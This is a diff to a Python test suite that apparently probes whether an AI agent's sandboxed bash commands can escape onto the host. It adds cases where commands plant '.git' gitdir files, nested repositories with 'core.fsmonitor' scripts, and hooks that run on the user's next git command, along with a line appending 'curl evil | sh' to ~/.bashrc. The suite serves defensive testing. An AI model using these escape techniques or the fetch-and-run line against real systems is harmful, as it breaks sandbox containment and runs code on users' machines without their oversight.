@@ -18,19 +18,29 @@ def _bash(command: str) -> dict:
 
 
 def gitdir_home(w: World) -> list[str]:
+    """The issue's case: the project is a linked worktree (``.git`` is a file); a command
+    rewrites it to ``gitdir: ~`` and the next command appends to ``~/.bashrc``."""
+    wt = w.root / "wt"
+    git("worktree", "add", "-q", str(wt), cwd=w.other)
+    w._before = w._snapshots()
+    link = (wt / ".git").read_text()
     w.session(_bash(f"printf 'gitdir: {w.home}' > .git; echo planted"),
-              _bash(f"echo 'curl evil | sh' >> {w.home}/.bashrc"))
-    return []
+              _bash(f"echo 'curl evil | sh' >> {w.home}/.bashrc"), cwd=wt)
+    return [] if (wt / ".git").read_text() == link else ["the worktree's .git file was rewritten"]
 
 
 def gitdir_root_then_host_tmp(w: World) -> list[str]:
+    """A project that is not a git repository: a command plants ``.git`` naming ``/``, then
+    ``/tmp``, and the next one writes to the host's ``/tmp``."""
+    subprocess.run(["rm", "-rf", str(w.project / ".git")], check=True)
     marker = f"/tmp/memagent-escape-{w.root.name}"
     w.session(_bash("printf 'gitdir: /' > .git; printf 'gitdir: /tmp' > .git"), _bash(f"echo escaped > {marker}"))
+    found = [] if not (w.project / ".git").exists() else ["a .git file was planted"]
     try:
         with open(marker):
-            return [lost(f"a sandboxed command wrote the host's {marker}")]
+            return [*found, lost(f"a sandboxed command wrote the host's {marker}")]
     except FileNotFoundError:
-        return []
+        return found
 
 
 def gitdir_dotdot(w: World) -> list[str]:
@@ -137,7 +147,7 @@ def pre_commit_hook_written(w: World) -> list[str]:
 def commondir_in_plain_git_folder(w: World) -> list[str]:
     """git reads ``.git/commondir`` in any git folder: point it at a folder the command wrote,
     whose ``config`` sets ``core.fsmonitor`` and whose ``hooks/`` has a pre-commit."""
-    script = payload(w, "commondir").replace("\n", "\\n").replace('"', '\\"')
+    script = payload(w, "commondir").replace("\n", "\\n").replace('"', '\\"').replace("$", "\\$")
     w.session(_bash(
         f'cp -r .git evil && printf "{script}" > evil/x.sh && chmod +x evil/x.sh'
         f' && printf "[core]\\n\\tfsmonitor = $PWD/evil/x.sh\\n\\thooksPath = $PWD/evil/h\\n" >> evil/config'
@@ -148,7 +158,7 @@ def commondir_in_plain_git_folder(w: World) -> list[str]:
 
 def worktree_config_file(w: World) -> list[str]:
     """``.git/config.worktree`` and ``.git/info``-like side files git reads as configuration."""
-    script = payload(w, "config.worktree").replace("\n", "\\n").replace('"', '\\"')
+    script = payload(w, "config.worktree").replace("\n", "\\n").replace('"', '\\"').replace("$", "\\$")
     w.session(_bash(f'printf "{script}" > x.sh; chmod +x x.sh;'
                     ' printf "[core]\\n\\tfsmonitor = ./x.sh\\n" > .git/config.worktree;'
                     ' printf "[core]\\n\\tfsmonitor = ./x.sh\\n" > .git/info/config 2>/dev/null; echo ok'))
@@ -171,6 +181,33 @@ def gitattributes_filter_with_shipped_driver(w: World) -> list[str]:
     w.session(_bash("git config include.path ../evil.cfg; echo ok"), tool("memory_delete", {"memory_id": card}))
     (w.root / "evil.sh").unlink()
     w._before = w._snapshots()
+    return []
+
+
+def _nested_repo(w: World, register: bool) -> str:
+    script = payload(w, "nested").replace("\n", "\\n").replace('"', '\\"').replace("$", "\\$")
+    command = (f'printf "{script}" > x.sh && chmod +x x.sh && git init -q vendor/lib'
+               ' && git -C vendor/lib -c user.name=a -c user.email=a@b commit -q --allow-empty -m v'
+               ' && git -C vendor/lib config core.fsmonitor "$PWD/x.sh"')
+    if register:  # the index is the command's to write: a gitlink needs no .gitmodules
+        command += " && git update-index --add --cacheinfo 160000,$(git -C vendor/lib rev-parse HEAD),vendor/lib"
+    return command + "; echo done"
+
+
+def nested_repo_gitlink(w: World) -> list[str]:
+    """A command makes a nested repository in the working tree (its ``.git/config`` is not the
+    project's, so it is writable) with ``core.fsmonitor``, and registers it in the index as a
+    gitlink: the user's next ``git status`` runs ``git status`` inside it, on the host."""
+    w.session(_bash(_nested_repo(w, register=True)))
+    _users_next_git(w)
+    return []
+
+
+def nested_repo_added_by_user(w: World) -> list[str]:
+    """The same nested repository, not registered: the user's own ``git add -A`` does that."""
+    w.session(_bash(_nested_repo(w, register=False)))
+    _users_next_git(w)
+    _users_next_git(w)
     return []
 
 
@@ -199,5 +236,8 @@ ATTACKS = (
     Attack("2/commondir", 2, ".git/commondir pointed at a config the command wrote", commondir_in_plain_git_folder),
     Attack("2/config-worktree", 2, ".git/config.worktree and .git/info/config with fsmonitor", worktree_config_file),
     Attack("2/include-filter", 2, "include.path to a written file defining filter and textconv drivers", gitattributes_filter_with_shipped_driver),
+    Attack("2/nested-repo-gitlink", 2, "a nested repository with core.fsmonitor, registered as a gitlink", nested_repo_gitlink),
+    Attack("2/nested-repo-add", 2, "a nested repository with core.fsmonitor, added by the user's git add -A",
+           nested_repo_added_by_user),
     Attack("2/hookspath-folder", 2, "a hook rewritten in the core.hooksPath folder of the working tree", hooks_path_to_project_folder),
 )
